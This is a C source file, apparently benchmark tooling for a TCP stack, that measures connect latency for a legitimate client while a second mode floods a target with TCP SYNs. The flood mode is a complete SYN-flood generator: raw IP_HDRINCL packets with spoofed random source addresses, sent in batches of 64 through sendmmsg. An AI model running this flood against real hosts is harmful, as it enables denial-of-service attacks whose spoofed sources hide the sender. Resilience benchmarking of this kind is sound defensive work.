/*
 * bench_synflood.c - the two kernel-side halves of the SYN-flood row of
 * `make bench` (tests/bench/run.sh).
 *
 *   bench_synflood -f DST PORT SECONDS [PPS]
 *        flood DST:PORT with TCP SYNs from random source addresses and
 *        ports (a raw socket, IP_HDRINCL, sendmmsg in batches of 64) for
 *        SECONDS, as fast as the kernel takes them or at most PPS a
 *        second. Sources are random unicast addresses outside 10/8, so
 *        the target's answers go to its gateway and die there. Prints the
 *        SYNs sent per second. Root (CAP_NET_RAW).
 *   bench_synflood -l DST PORT N [INTERVAL_MS]
 *        a legitimate client: N connections, one every INTERVAL_MS
 *        (default 20): connect (blocking, given up after 5 s), close.
 *        Prints "p50_ms p95_ms max_ms failed" of the connect times;
 *        a failed connect counts as 5000 ms.
 *
 * Plain kernel sockets; nothing of ustack is used here. The random
 * generator is xorshift seeded from the clock: the sources only need to
 * differ, not to be unpredictable.
 */
#define _GNU_SOURCE /* sendmmsg */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define CONNECT_GIVEUP_MS 5000

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint64_t xs(uint64_t *s)
{
	*s ^= *s << 13;
	*s ^= *s >> 7;
	*s ^= *s << 17;
	return *s;
}

static uint16_t csum(const void *p, size_t n, uint32_t s)
{
	const uint8_t *b = p;

	for (; n > 1; b += 2, n -= 2)
		s += (uint32_t)(b[0] << 8 | b[1]);
	if (n)
		s += (uint32_t)b[0] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

/* A 44-byte SYN (20 IPv4 + 20 TCP + MSS option) from a random source. */
static void make_syn(uint8_t *f, uint32_t dst, uint16_t dport, uint64_t *rs)
{
	uint64_t r = xs(rs);
	uint32_t src;
	uint8_t ph[12];

	do {
		src = (uint32_t)r | 0x01000000u;
		r = xs(rs);
	} while ((src >> 24) == 10 || (src >> 24) == 127 || (src >> 24) >= 224);
	memset(f, 0, 44);
	f[0] = 0x45;
	put16(f + 2, 44);
	put16(f + 4, (uint16_t)r);
	f[8] = 64;
	f[9] = IPPROTO_TCP;
	memcpy(f + 12, &(uint32_t){htonl(src)}, 4);
	memcpy(f + 16, &(uint32_t){htonl(dst)}, 4);
	put16(f + 10, csum(f, 20, 0));
	put16(f + 20, (uint16_t)(1024 + (r >> 16) % 60000));
	put16(f + 22, dport);
	memcpy(f + 24, &(uint32_t){(uint32_t)(r >> 32)}, 4);
	f[32] = 6 << 4;
	f[33] = 0x02;
	put16(f + 34, 64240);
	f[40] = 2;
	f[41] = 4;
	put16(f + 42, 1460);
	memcpy(ph, f + 12, 8);
	ph[8] = 0;
	ph[9] = IPPROTO_TCP;
	put16(ph + 10, 24);
	put16(f + 36, csum(f + 20, 24, (uint32_t)(0xffff & ~csum(ph, 12, 0))));
}

static int flood(uint32_t dst, uint16_t port, double secs, double pps)
{
	static uint8_t pkts[BATCH][44];
	struct mmsghdr mm[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_in sa = {.sin_family = AF_INET};
	uint64_t rs = (uint64_t)(now_s() * 1e9) | 1, sent = 0;
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), one = 1;
	double t0 = now_s(), t;

	if (fd < 0) {
		perror("raw socket");
		return 1;
	}
	setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one));
	sa.sin_addr.s_addr = htonl(dst);
	memset(mm, 0, sizeof(mm));
	for (int i = 0; i < BATCH; i++) {
		iov[i] = (struct iovec){pkts[i], 44};
		mm[i].msg_hdr.msg_iov = &iov[i];
		mm[i].msg_hdr.msg_iovlen = 1;
		mm[i].msg_hdr.msg_name = &sa;
		mm[i].msg_hdr.msg_namelen = sizeof(sa);
	}
	while ((t = now_s()) - t0 < secs) {
		int n;

		if (pps > 0 && (double)sent > pps * (t - t0)) {
			usleep(200);
			continue;
		}
		for (int i = 0; i < BATCH; i++)
			make_syn(pkts[i], dst, port, &rs);
		n = sendmmsg(fd, mm, BATCH, 0);
		if (n > 0)
			sent += (uint64_t)n;
		else if (n < 0 && errno != ENOBUFS && errno != EAGAIN &&
			 errno != EINTR)
			break;
	}
	printf("%.0f\n", (double)sent / (now_s() - t0));
	close(fd);
	return 0;
}

/* One blocking connect with a deadline: milliseconds, or -1. */
static double connect_ms(const struct sockaddr_in *sa)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), err = 0;
	socklen_t el = sizeof(err);
	struct pollfd p;
	double t0 = now_s(), ms = -1;

	if (fd < 0)
		return -1;
	if (connect(fd, (const struct sockaddr *)sa, sizeof(*sa)) == 0) {
		ms = (now_s() - t0) * 1e3;
	} else if (errno == EINPROGRESS) {
		p = (struct pollfd){fd, POLLOUT, 0};
		if (poll(&p, 1, CONNECT_GIVEUP_MS) == 1 &&
		    getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &el) == 0 &&
		    err == 0)
			ms = (now_s() - t0) * 1e3;
	}
	close(fd);
	return ms;
}

static int cmp_d(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return x < y ? -1 : x > y;
}

static int legit(uint32_t dst, uint16_t port, int n, int interval_ms)
{
	struct sockaddr_in sa = {.sin_family = AF_INET};
	double *v = calloc((size_t)n, sizeof(*v));
	int failed = 0;

	if (!v || n < 1)
		return 1;
	sa.sin_addr.s_addr = htonl(dst);
	sa.sin_port = htons(port);
	for (int i = 0; i < n; i++) {
		double t0 = now_s(), left;

		v[i] = connect_ms(&sa);
		if (v[i] < 0) {
			v[i] = CONNECT_GIVEUP_MS;
			failed++;
		}
		left = interval_ms / 1e3 - (now_s() - t0);
		if (left > 0)
			usleep((useconds_t)(left * 1e6));
	}
	qsort(v, (size_t)n, sizeof(*v), cmp_d);
	printf("%.2f %.2f %.2f %d\n", v[(n - 1) / 2], v[(n * 95 + 99) / 100 - 1],
	       v[n - 1], failed);
	free(v);
	return 0;
}

int main(int argc, char **argv)
{
	struct in_addr a;

	if (argc >= 5 && !strcmp(argv[1], "-f") && inet_aton(argv[2], &a))
		return flood(ntohl(a.s_addr), (uint16_t)atoi(argv[3]),
			     atof(argv[4]), argc > 5 ? atof(argv[5]) : 0);
	if (argc >= 5 && !strcmp(argv[1], "-l") && inet_aton(argv[2], &a))
		return legit(ntohl(a.s_addr), (uint16_t)atoi(argv[3]),
			     atoi(argv[4]), argc > 5 ? atoi(argv[5]) : 20);
	fprintf(stderr, "usage: bench_synflood -f DST PORT SECONDS [PPS]\n"
		"       bench_synflood -l DST PORT N [INTERVAL_MS]\n");
	return 2;
}
